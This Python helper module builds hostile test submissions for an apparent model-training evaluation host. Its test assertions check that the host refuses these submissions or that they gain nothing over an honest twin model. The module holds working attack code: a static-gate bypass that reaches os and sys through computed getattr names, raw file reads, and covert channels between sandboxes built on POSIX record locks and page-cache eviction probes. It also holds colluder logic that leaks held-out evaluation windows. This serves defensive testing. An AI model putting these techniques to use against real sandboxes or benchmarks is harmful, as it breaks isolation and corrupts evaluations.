"""Shared pieces of the measurement-attack corpus (tests/hostile/test_*_attacks.py).

Every attack is a small submission source built from :data:`ATTACK_PRELUDE` (the hostile
``TinyLM`` plus the routes an attacker has past the static gate: ``os``, ``sys`` and any module
through ``getattr(torch, ...)``). Each test then either asserts that the host refused the run with
a miner fault (:func:`assert_refused`) or that the run earned no more than seed noise over an
honest twin (:func:`assert_no_gain`, with :class:`Twin` measured in the same session).
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

PRELUDE = """
import time

import torch

# The static gate checks constant attribute names only; a computed one reaches os anyway.
_OS = getattr(torch, "".join(["o", "s"]))


def _os(name):
    return getattr(_OS, name)


class TinyLM(torch.nn.Module):
    def __init__(self, vocab_size):
        super().__init__()
        self.emb = torch.nn.Embedding(vocab_size, 32)
        self.out = torch.nn.Linear(32, vocab_size)

    def forward(self, tokens):
        return self.out(self.emb(tokens))


def get_recipe(ctx):
    return {"learning_rate": 3e-3}
"""

ATTACK_PRELUDE = (
    # The top of the lr window: TinyLM learns enough in the attack profile's 32 steps.
    PRELUDE.replace('"learning_rate": 3e-3', '"learning_rate": 1e-2')
    + '''
import numpy as np

# sys the same way as os; through it, any module (the import allowlist is only syntax).
_SYS = getattr(torch, "".join(["s", "y", "s"]))


def _module(name):
    modules = _SYS.modules
    return modules[name] if name in modules else modules["importlib"].import_module(name)


def _evaluator_module():
    """The held-out process runs ``prism.evaluator.heldout`` as __main__; None anywhere else."""
    main = _SYS.modules.get("__main__")
    return main if hasattr(main, "_Evaluator") else None


def _read_bytes(path, limit=1 << 30):
    """A file's bytes through the os bypass (open() is refused by the gate)."""
    fd = _os("open")(path, _OS.O_RDONLY)
    try:
        chunks, size = [], 0
        while size < limit:
            chunk = _os("read")(fd, 1 << 20)
            if not chunk:
                break
            chunks.append(chunk)
            size += len(chunk)
        return b"".join(chunks)
    finally:
        _os("close")(fd)


def _read(path, limit=1 << 22):
    return _read_bytes(path, limit).decode("utf-8", "replace")


_GRAPHS = []  # identity-graph forwards (eval mode, B = 1) this held-out process has run


def _is_eval_batch(model, tokens):
    """A held-out batch: eval mode, in the held-out process, more than one row (the identity
    graph is recorded with B = 1)."""
    if model.training or _evaluator_module() is None:
        return False
    if tokens.shape[0] == 1:
        _GRAPHS.append(time.monotonic())
    return tokens.shape[0] > 1
'''
)

#: A covert channel between two sandboxes that run at the same time (the main held-out process
#: and its replay start together). POSIX record locks live on the inode, and the submission
#: file is the same inode in every sandbox, so a read lock one process takes is visible to
#: ``F_GETLK`` in the other, whatever their namespaces. Window ``w``'s token ``t`` is one byte
#: locked at ``BASE + (w * SLOT + t) * WIDTH + token``; position ``SLOT - 1`` marks a complete window.
LOCK_CHANNEL = '''
class _LockChannel:
    BASE, SLOT, WIDTH = 1 << 36, 80, 512

    def __init__(self, path):
        self.fcntl, self.struct = _module("fcntl"), _module("struct")
        self.fd = _os("open")(path, _OS.O_RDONLY)
        self.published = 0
        self.others = []
        threading = _module("threading")
        self.mutex = threading.Lock()
        threading.Thread(target=self._watch, daemon=True).start()

    def _flock(self, kind, start, length):
        return self.struct.pack("hhqqi", kind, 0, start, length, 0)

    def _at(self, slot, position):
        return self.BASE + (slot * self.SLOT + position) * self.WIDTH

    def publish(self, tokens):
        slot, self.published = self.published, self.published + 1
        places = [self._at(slot, t) + int(token) for t, token in enumerate(tokens)]
        for where in places + [self._at(slot, self.SLOT - 1)]:
            self.fcntl.fcntl(self.fd, self.fcntl.F_SETLK, self._flock(self.fcntl.F_RDLCK, where, 1))

    def _peek(self, slot, position):
        start = self._at(slot, position)
        reply = self.fcntl.fcntl(
            self.fd, self.fcntl.F_GETLK, self._flock(self.fcntl.F_WRLCK, start, self.WIDTH)
        )
        kind, _, found, _, _ = self.struct.unpack("hhqqi", reply)
        # Only another process's read lock answers F_RDLCK (an inert fcntl echoes F_WRLCK back).
        return found - start if kind == self.fcntl.F_RDLCK else None

    def refresh(self):
        """Every complete window another process has published (they stay known after it exits)."""
        with self.mutex:
            while self._peek(len(self.others), self.SLOT - 1) is not None:
                slot, tokens = len(self.others), []
                for position in range(self.SLOT - 1):
                    token = self._peek(slot, position)
                    if token is None:
                        break
                    tokens.append(token)
                self.others.append(tokens)
            return list(self.others)

    def _watch(self):
        while True:
            self.refresh()
            time.sleep(0.01)


_CHANNEL = _LockChannel
'''

#: Every token id of the public recording batches (the canonical and probe batches, at the
#: canonical T and the attack profile's T): what a gate on them keys on.
RECORDING_IDS = """
def _recording_ids(vocab, lengths=(32, 64)):
    ids = set()
    for n in lengths:
        for i in range(n):
            ids.add((i * 7919 + 13) % vocab)
            ids.add((i * 104729 + 71) % vocab)
    return ids
"""

#: The length of the prefix two token rows share (a relayed window is found by it).
PREFIX_MATCH = """
def _lcp(a, b):
    n = 0
    for x, y in zip(a, b):
        if x != y:
            break
        n += 1
    return n
"""

#: Prefix matching and the role of a held-out process, over whichever channel is included
#: (``_CHANNEL``: :data:`LOCK_CHANNEL` or :data:`PAGE_CACHE_CHANNEL`).
COLLUDER = (
    PREFIX_MATCH
    + '''

def _source(row, known):
    """(index, shared prefix length) of the known window that shares the longest prefix with row."""
    best, best_len = None, 0
    for index, window in enumerate(known):
        n = _lcp(row, window)
        if n > best_len:
            best, best_len = index, n
    return best, best_len


class _Colluder:
    """Role and memory of one held-out process. The first process to get a held-out batch while
    nothing is published is the main evaluation (it publishes every window it is asked); a
    process that finds windows already published is the replay."""

    channel = None
    role = None
    own = []
    batch_rows = None

    @classmethod
    def start(cls):
        if cls.channel is None and _evaluator_module() is not None:
            cls.channel = _CHANNEL(__file__)

    @classmethod
    def known(cls, tokens):
        """The windows this process may consult (main: its own; replay: the main process's)."""
        rows = [[int(v) for v in row] for row in tokens.tolist()]
        if cls.role is None:
            # The replay records no identity graph before its batches (the main process does);
            # where both would, what the channel holds decides.
            cls.role = "replay" if not _GRAPHS or cls.channel.refresh() else "main"
            cls.batch_rows = len(rows)
        full = len(rows) == cls.batch_rows  # not the in-process causality check's 2-row call
        if cls.role == "main" and full:
            for row in rows:
                cls.channel.publish(row)
            cls.own.extend(rows)
            time.sleep(0.2)  # the replay's watcher copies the windows before this process exits
        return rows, (cls.channel.refresh() if cls.role == "replay" else list(cls.own))
'''
)

#: A channel that outlives its writer: the page cache. Pages of a big read-only file that every
#: sandbox binds (``/usr`` holds several) are evicted (``POSIX_FADV_DONTNEED``, allowed on a
#: read-only fd), then the writer reads one byte of page ``i`` for every 1 bit; a later process
#: reads the bits with ``preadv(RWF_NOWAIT)``, which fails for a page that is not in the cache
#: and never starts I/O for it. ``POSIX_FADV_RANDOM`` keeps readahead from setting neighbours.
#: The region is keyed by the weights file's sha256, which the main process and its replay share.
PAGE_CACHE_CHANNEL = '''
class _PageCacheChannel:
    PAGE, SLOT, BITS, SLOTS, MAGIC = 4096, 72, 9, 24, 0b101100101

    def __init__(self, _path):
        spec = _module("json").loads(_read(next(a for a in _SYS.argv if a.endswith(".json"))))
        digest = _module("hashlib").sha256(_read_bytes(spec["weights_path"])).hexdigest()
        self.need = self.SLOTS * self.SLOT * self.BITS * self.PAGE
        self.fd, self.base = self._region(int(digest[:12], 16))
        self.published, self.cache = 0, None

    def _probe(self, offset):
        try:
            _OS.preadv(self.fd, [bytearray(1)], offset, _OS.RWF_NOWAIT)
            return True
        except BlockingIOError:
            return False

    def _evict(self, offset, length):
        _OS.posix_fadvise(self.fd, offset, length, _OS.POSIX_FADV_DONTNEED)

    def _region(self, key):
        """The first big file (in a fixed order) whose pages this process can evict and set."""
        candidates = []  # (is an ELF file: libraries and programs are mapped and read by others, path)
        for root in ("/usr/lib", "/usr/share"):
            for folder, subdirs, files in _os("walk")(root):
                subdirs.sort()
                for name in sorted(files):
                    path = folder + "/" + name
                    try:
                        if not _os("path").islink(path) and _os("path").getsize(path) > self.need + (8 << 20):
                            fd = _os("open")(path, _OS.O_RDONLY)
                            candidates.append((_os("pread")(fd, 4, 0) == b"\\x7fELF", path))
                            _os("close")(fd)
                    except OSError:
                        continue
        for _, path in sorted(candidates):
            fd = _os("open")(path, _OS.O_RDONLY)
            _OS.posix_fadvise(fd, 0, 0, _OS.POSIX_FADV_RANDOM)
            pages = (_os("path").getsize(path) - self.need) // self.PAGE - 2
            self.fd, base = fd, (1 + key % pages) * self.PAGE
            test = base - self.PAGE
            self._evict(test, self.PAGE)
            if not self._probe(test):
                _os("pread")(fd, 1, test)
                if self._probe(test):
                    self._evict(test, self.PAGE)
                    return fd, base
            _os("close")(fd)
        raise RuntimeError("no page-cache region")

    def _bit(self, slot, position, j):
        return self.base + ((slot * self.SLOT + position) * self.BITS + j) * self.PAGE

    def _write(self, slot, position, value):
        for j in range(self.BITS):
            if value >> j & 1:
                _os("pread")(self.fd, 1, self._bit(slot, position, j))

    def _value(self, slot, position):
        return sum(1 << j for j in range(self.BITS) if self._probe(self._bit(slot, position, j)))

    def publish(self, tokens):
        if self.published == 0:  # a cold region, then a header: a magic number and the time
            time.sleep(0.3)  # reads this process made (and their readahead) have landed
            self._evict(self.base, self.need)
            self._write(0, 0, self.MAGIC)
            now = int(time.time())
            for k in range(3):
                self._write(0, 1 + k, now >> (self.BITS * k) & ((1 << self.BITS) - 1))
        slot, self.published = self.published + 1, self.published + 1
        for position, token in enumerate(tokens):
            self._write(slot, position, int(token))
        self._write(slot, self.SLOT - 2, len(tokens))
        self._write(slot, self.SLOT - 1, 1)  # the slot is complete

    def _started(self):
        """When this process started (the main process and its replay are launched together)."""
        ticks = int(_read("/proc/self/stat").rsplit(")", 1)[1].split()[19])
        boot = next(int(line.split()[1]) for line in _read("/proc/stat").splitlines() if line.startswith("btime"))
        return boot + ticks / _OS.sysconf("SC_CLK_TCK")

    def refresh(self):
        """Windows written since this process started, read once (an older region is another run's)."""
        if self.cache is None:
            self.cache = []
            written = sum(self._value(0, 1 + k) << (self.BITS * k) for k in range(3))  # time mod 2**27
            after_start = (written - int(self._started()) + 1) % (1 << 27) < 3600
            if self._value(0, 0) == self.MAGIC and after_start:
                while len(self.cache) + 1 < self.SLOTS and self._value(len(self.cache) + 1, self.SLOT - 1) == 1:
                    slot = len(self.cache) + 1
                    length = self._value(slot, self.SLOT - 2)
                    self.cache.append([self._value(slot, t) for t in range(length)])
        time.sleep(0.05)
        self._evict(self.base, self.need)  # leave the region cold (again after late readahead)
        return list(self.cache)


_CHANNEL = _PageCacheChannel
'''

#: Honest ``TinyLM`` (the twin of every attack that trains ``TinyLM`` unchanged).
HONEST_BODY = """
def build_model(ctx):
    return TinyLM(ctx.vocab_size)
"""


def source(body: str, *extras: str) -> str:
    """A complete submission: the attack prelude, optional shared snippets, then ``body``."""
    return ATTACK_PRELUDE + "".join(extras) + textwrap.dedent(body)


@dataclass(frozen=True)
class Twin:
    """An honest model measured at the attack's seed and at a second training seed.

    ``allowance`` is what an attack may score below ``bpb`` and still count as no gain: twice the
    measured seed-to-seed difference (two seeds give one sample of the noise; the factor 2 covers
    a draw of the other seed that happens to be close), but at least ``FLOOR`` bpb so that a
    twin whose two seeds agree by chance does not demand bit-identical numbers.
    """

    FLOOR = 0.01

    bpb: float
    other_seed_bpb: float
    #: What the host's calibration expects a run of this profile to cost (``compute.expected_s``).
    expected_compute_s: float | None = None
    #: The family the host recorded for the honest model.
    family_id: str | None = None

    @property
    def noise(self) -> float:
        return abs(self.bpb - self.other_seed_bpb)

    @property
    def allowance(self) -> float:
        return max(2.0 * self.noise, self.FLOOR)


def describe(run) -> str:  # type: ignore[no-untyped-def]
    status, metrics = run.manifest.status, run.manifest.metrics
    failure = status.failure
    head = f"state={status.state} bpb={metrics.heldout_bpb} reasons={run.manifest.validation.reasons}"
    if failure is not None:
        head += f" failure={failure.fault}/{failure.code}: {failure.message[:600]}"
    integrity, compute = run.manifest.integrity, run.manifest.compute
    if integrity is not None:
        head += (
            f"\nreplay: {integrity.replay_pairs} pairs, {integrity.replay_positions} positions, "
            f"max deviation {integrity.replay_max_deviation_nats} (tolerance {integrity.replay_tolerance_nats}); "
            f"spots {integrity.spot_rows}/{integrity.positions}"
        )
    if compute is not None:
        head += f"\ncompute: {compute.measured_s} {compute.kind}, ratio {compute.ratio} (cap {compute.cap})"
    return head + "\n--- log tail ---\n" + run.log[-3000:]


def assert_refused(run, *codes: str) -> None:  # type: ignore[no-untyped-def]
    """Failed, the miner's fault, with one of ``codes`` (prefix match)."""
    status = run.manifest.status
    assert status.state == "failed", describe(run)
    assert status.failure is not None and status.failure.fault == "miner", describe(run)
    assert status.failure.code.startswith(codes), describe(run)
    assert run.manifest.metrics.heldout_bpb is None


def assert_no_gain(run, twin: Twin) -> None:  # type: ignore[no-untyped-def]
    """Either refused with a miner fault, or succeeded without beating the twin beyond noise."""
    status = run.manifest.status
    if status.state == "failed":
        assert status.failure is not None and status.failure.fault == "miner", describe(run)
        return
    bpb = run.manifest.metrics.heldout_bpb
    assert bpb is not None, describe(run)
    assert bpb >= twin.bpb - twin.allowance, (
        f"attack scored {bpb:.4f} bpb against the honest twin's {twin.bpb:.4f} "
        f"(seed noise {twin.noise:.4f}, allowance {twin.allowance:.4f})\n" + describe(run)
    )


__all__ = [
    "ATTACK_PRELUDE",
    "COLLUDER",
    "HONEST_BODY",
    "LOCK_CHANNEL",
    "PAGE_CACHE_CHANNEL",
    "PREFIX_MATCH",
    "PRELUDE",
    "RECORDING_IDS",
    "Twin",
    "assert_no_gain",
    "assert_refused",
    "describe",
    "source",
]
